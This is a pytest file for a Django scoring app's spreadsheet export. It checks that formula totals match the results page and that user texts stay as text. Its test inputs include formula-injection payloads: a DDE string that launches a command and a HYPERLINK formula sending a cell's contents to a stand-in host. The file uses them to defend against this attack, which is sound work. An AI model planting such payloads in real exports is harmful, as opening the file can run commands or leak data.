"""The summary spreadsheet as a phone, a mail viewer or openpyxl read it: each total and
percentage is a formula saved with the value the results page shows (the same rounding), and
every name is a text, never a formula."""

import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from clusters.models import Unit
from scoring.models import Criterion, Score, ScoreSheet
from scoring.services import create_table
from scoring.sheets import publish_table

D = Decimal
HYPERLINK = '=HYPERLINK("http://example.invalid/?"&B5,"Bấm vào đây")'
TRAPS = ["=1+1", "+A1", "-2+3", "@SUM(A1)", HYPERLINK, "=cmd|' /C calc'!A0"]


@pytest.fixture
def traps(world):
    """A table of 200 points whose texts, a unit's name and a tier look like formulas."""
    world.table.delete()
    table = create_table(world.cluster_year)
    table.nominal_total = D(200)
    table.save()
    section = Criterion.objects.create(table=table, code="I", text=HYPERLINK, max_points=200,
                                       position=1)  # fmt: skip
    for position, text in enumerate(["=1+1", "+A1"], start=1):
        Criterion.objects.create(table=table, parent=section, code=str(position), text=text,
                                 max_points=100, step=D("0.25"), position=position)  # fmt: skip
    Criterion.objects.create(table=table, code="II", text="-2+3", kind="bonus", max_points=5,
                             step=1, position=2)  # fmt: skip
    Criterion.objects.create(table=table, code="III", text="@SUM(A1)", kind="deduction",
                             max_points=10, step=1, position=3)  # fmt: skip
    year = world.cluster_year
    year.self_score_deadline = datetime.date.today() + datetime.timedelta(days=5)
    year.tier_bands = [
        {"name": "=1+1", "min_percent": "90"},
        {"name": "@SUM(A1)", "min_percent": "0"},
    ]
    year.save()
    Unit.objects.filter(pk=world.leader.pk).update(name="=cmd|' /C calc'!A0")
    publish_table(table)
    return table


def fill(table, unit, values: dict[str, str]) -> None:
    sheet = ScoreSheet.objects.get(table=table, unit=unit)
    for score in Score.objects.filter(sheet=sheet).select_related("criterion"):
        score.self_value = D(values.get(score.criterion.code, "0"))
        score.save()


def test_totals_and_percentages_carry_the_values_of_the_results_page(client_as, traps, world):
    # 94,25 + 90 = 184,25 of 200: 92,125 %, which rounds half up to 92,13 (half to even
    # would give 92,12).
    fill(traps, world.leader, {"1": "94.25", "2": "90"})
    fill(traps, world.member, {"1": "60", "2": "40.5", "II": "3", "III": "2"})
    client = client_as("staff")
    page = client.get(reverse("results:results", args=[world.cluster_year.pk]))
    shown = {r.sheet.unit.name: (r.total, r.percent) for r in page.context["results"]}
    assert shown["=cmd|' /C calc'!A0"] == (D("184.25"), D("92.13"))
    assert "92,13" in page.content.decode()
    xlsx = client.get(reverse("results:summary_xlsx", args=[world.cluster_year.pk])).content
    formulas = load_workbook(io.BytesIO(xlsx)).active
    values = load_workbook(io.BytesIO(xlsx), data_only=True).active
    headers = [c.value for c in values[1]]
    total, percent = headers.index("Tổng điểm"), headers.index("Tỷ lệ (%)")
    rows = list(values.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(shown) == 3
    for row, line in zip(rows, formulas.iter_rows(min_row=2), strict=True):
        assert (D(str(row[total])), D(str(row[percent]))) == shown[row[1]]
        assert line[total].value.startswith("=SUM(") and line[percent].value.startswith("=ROUND(")
    assert values["F2"].value == 184.25 and values["G2"].value == 92.13


@pytest.mark.parametrize("name", TRAPS)
def test_every_text_of_the_summary_is_a_text(client_as, traps, world, name):
    Unit.objects.filter(pk=world.leader.pk).update(name=name)
    fill(traps, world.leader, {"1": "95", "2": "90"})  # 92,5 %: the tier "=1+1"
    xlsx = client_as("staff").get(reverse("results:summary_xlsx", args=[world.cluster_year.pk]))
    for data_only in (False, True):
        sheet = load_workbook(io.BytesIO(xlsx.content), data_only=data_only).active
        header = {c.value: c.data_type for c in sheet[1]}
        assert header[f"I. {HYPERLINK}"] == "s"
        first = sheet[2]
        assert (first[1].value, first[1].data_type) == (name, "s")
        assert (first[7].value, first[7].data_type) == ("=1+1", "s")
        tiers = {row[7].value for row in sheet.iter_rows(min_row=2)}
        assert tiers == {"=1+1", "@SUM(A1)"}
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet["B2"].quotePrefix and sheet["H2"].quotePrefix  # kept texts when edited
